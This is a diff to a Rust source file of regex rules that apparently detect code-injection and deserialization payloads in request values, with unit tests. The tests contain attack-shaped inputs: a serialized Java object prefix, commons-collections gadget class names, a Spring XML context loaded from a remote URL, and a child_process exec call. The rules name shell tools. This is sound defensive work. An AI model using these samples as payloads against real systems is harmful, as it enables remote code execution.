@@ -34,7 +34,7 @@ pub(super) const CODE_RULES: &[&str] = &[
     // PHP functions that nothing but PHP is named after, called even through comments or
     // line breaks (`gzinflate/**/(`, `file_exists (\n)`); the common-word ones (`exec`,
     // `system`) only with an argument that no prose has.
-    r"(?:phpinfo|shell_exec|passthru|proc_open|pcntl_\w+|gz(?:inflate|uncompress|decode)|bzdecompress|zlib_(?:decode|encode)|str_rot13|file_(?:put|get)_contents|file_exists|filegroup|fileowner|fileperms|create_function|call_user_func(?:_array)?|base64_decode|p?fsockopen|posix_\w+|assert_options|get_defined_(?:functions|vars|constants)|curl_(?:init|exec)|move_uploaded_file|ini_(?:set|get_all|restore)|php_uname|highlight_file|show_source|escapeshell(?:arg|cmd)|unserialize)(?:\s|=|/\*.*?\*/|(?://|#)[^\n]*\n)*\(",
+    r"\b(?:phpinfo|shell_exec|passthru|proc_open|pcntl_\w+|gz(?:inflate|uncompress|decode)|bzdecompress|zlib_(?:decode|encode)|str_rot13|file_(?:put|get)_contents|file_exists|filegroup|fileowner|fileperms|create_function|call_user_func(?:_array)?|base64_decode|p?fsockopen|posix_\w+|assert_options|get_defined_(?:functions|vars|constants)|curl_(?:init|exec)|move_uploaded_file|ini_(?:set|get_all|restore)|php_uname|highlight_file|show_source|escapeshell(?:arg|cmd)|unserialize)(?:\s|=|/\*.*?\*/|(?://|#)[^\n]*\n)*\(",
     r"\b(?:system|exec|popen|assert|eval|include|require)(?:_once)?\s*\(\s*[\x22'$`]",
     r"\b(?:system|exec|shell_exec|passthru|popen)\s*\(\s*(?:whoami|id|uname|ls|pwd|dir|hostname|ipconfig|ifconfig|wget|curl|nc|bash|sh|cmd)\b",
     r"\bexec(?:\s|/\*.*?\*/|#[^\n]*\n)*(?:/\*.*?\*/|#[^\n]*\n)(?:\s|/\*.*?\*/|#[^\n]*\n)*\(|\bexec[\t\n\r]+\(|\bexec\s{2,}\(",
@@ -52,6 +52,11 @@ pub(super) const CODE_RULES: &[&str] = &[
     // a polymorphic JSON or XML payload names. Inside prose or a pasted stack trace (`at
     // java.lang.Thread.run(`) it does not count.
     r"(?:^|[\x22'>\[,])\s*(?:java\.(?:io|lang|net|nio|rmi|beans|security)|javax\.(?:naming|script|management|el|xml\.transform)|com\.sun|sun\.(?:misc|reflect|rmi)|org\.omg\.corba|com\.opensymphony\.xwork2|org\.apache\.(?:commons|xalan|xbean|naming|tomcat\.dbcp|catalina|struts2)|org\.springframework\.(?:beans|context|jndi|aop)|org\.codehaus\.groovy|groovy\.lang|bsh\.(?:interpreter|xthis)|com\.mchange\.v2|org\.mozilla\.javascript|clojure\.(?:core|lang)|ch\.qos\.logback|net\.sf\.json)(?:\.[\w$]+)*\s*(?:$|[\x22'<\],])",
+    // A serialized Java object (its stream magic, raw in hex or in base64) at the start of
+    // a value; the transformer and closure classes of the commons-collections gadget chains;
+    // Spring contexts loaded from an attacker's XML.
+    r"^(?:ro0ab|aced0005)",
+    r"\b(?:clonetransformer|forclosure|instantiatefactory|instantiatetransformer|invokertransformer|prototypeclonefactory|prototypeserializationfactory|whileclosure|(?:filesystem|classpath)xmlapplicationcontext)\b",
     // Node.js: node-serialize's and funcster's function markers, the child_process module,
     // the module loader and environment reached from the process.
     r"_\$\$nd_func\$\$_|\b__js_function\b|\bchild_process\b|\bprocess\s*\.\s*(?:mainmodule|binding|dlopen)\b|\brequire\s*\.\s*main\b|\._load\s*\(",
@@ -163,6 +168,9 @@ mod tests {
                 true,
             ),
             ("x=java.Runtime", true),
+            ("x=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", true),
+            ("x=runtime.InvokerTransformer", true),
+            ("h=com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext('http://x/wb.xml')", true),
             ("x=_%24%24ND_FUNC%24%24_function(){}", true),
             ("x=require('child_process').exec('id')", true),
             ("x=while(!false)", true),
@@ -205,6 +213,7 @@ mod tests {
             ("code=while+(true)+%7B+step()%3B+%7D", false),
             ("q=worked+while+(mostly)+asleep", false),
             ("q=the+process+(environment)", false),
+            ("token=xRo0ABQsomething", false),
             ("img=data%3Aimage%2Fpng%3Bbase64%2CiVBORw0KGgo%3D", false),
             ("redirect=https%3A%2F%2Fwww.example.com%2Faccount", false),
         ]);
